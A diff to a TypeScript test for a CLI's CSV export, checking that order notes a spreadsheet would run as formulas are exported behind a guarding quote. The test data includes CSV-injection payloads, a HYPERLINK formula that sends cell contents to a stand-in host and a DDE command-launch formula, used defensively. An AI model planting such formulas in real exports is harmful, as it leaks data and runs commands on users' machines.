@@ -18,34 +18,38 @@ const seedStatement = (body: Parameters<typeof seed>[1]) => seed(sb, body);
 
 describe('CSV as spreadsheets read it', () => {
   it('notes round-trip split on , ; or tab; a cell a spreadsheet would run is guarded, a number is not', async () => {
-    // Each note, and whether it reads back behind a leading quote: text a spreadsheet would run as a
-    // formula (real-looking payloads too) is guarded; separators, newlines, signed numbers and any script are not.
-    const cells: Record<string, [note: string, guarded: boolean]> = {
-      semi: ['a;b', false],
-      tab: ['a\tb', false],
-      nl: ['line one\nline two', false],
-      formula: ['=1+2', true],
-      neg: ['-12', false],
-      phone: ['+919876543210', false],
-      name: ['Ñandú Šťastný 名前 ₹', false],
-      link: ['=HYPERLINK("http://evil.example/?"&A1,"Refund status")', true],
-      tollFree: ['+1-800-FAKE', true],
-      sum: ['-2+3', true],
-      at: ['@SUM(1,2)', true],
-      dde: ["=cmd|' /C calc'!A0", true],
+    // Notes a spreadsheet reads back as they were sent: separators, a newline, signed numbers, any script.
+    const asSent = {
+      semi: 'a;b',
+      tab: 'a\tb',
+      nl: 'line one\nline two',
+      neg: '-12',
+      phone: '+919876543210',
+      name: 'Ñandú Šťastný 名前 ₹',
     };
-    const notes = Object.fromEntries(Object.entries(cells).map(([k, [note]]) => [k, note]));
+    // Notes a spreadsheet would run as formulas, real-looking payloads too: they read back behind a quote.
+    const formulas = [
+      '=1+2',
+      '=HYPERLINK("http://evil.example/?"&A1,"Refund status")',
+      '+1-800-FAKE',
+      '-2+3',
+      '@SUM(1,2)',
+      "=cmd|' /C calc'!A0",
+    ];
+    const guarded = Object.fromEntries(formulas.map((f, i) => [`formula${i + 1}`, f]));
+    const notes = { ...asSent, ...guarded };
     const created = await apiOrder(sb, { amount: 5000, receipt: 'csv-roundtrip', notes });
     const fields = ['id', ...Object.keys(notes).map((k) => `notes.${k}`)];
     const res = await run(['orders', 'list', '--receipt', 'csv-roundtrip', '-o', 'csv', '--fields', fields.join(',')], {
       env: sb.env,
     });
     expect(res.code, res.stderr).toBe(0);
-    const read = Object.entries(cells).map(([k, [note, guarded]]) => [`notes.${k}`, guarded ? `'${note}` : note]);
+    const cells = (sent: Record<string, string>, quote: string) =>
+      Object.fromEntries(Object.entries(sent).map(([k, note]) => [`notes.${k}`, quote + note]));
     // LibreOffice's default import splits on comma, semicolon and tab.
     for (const delimiter of [',', [',', ';', '\t']]) {
       const [row] = parse(res.stdout, { columns: true, delimiter }) as Row[];
-      expect(row).toEqual({ id: created.id, ...Object.fromEntries(read) });
+      expect(row).toEqual({ id: created.id, ...cells(asSent, ''), ...cells(guarded, "'") });
     }
   });
 
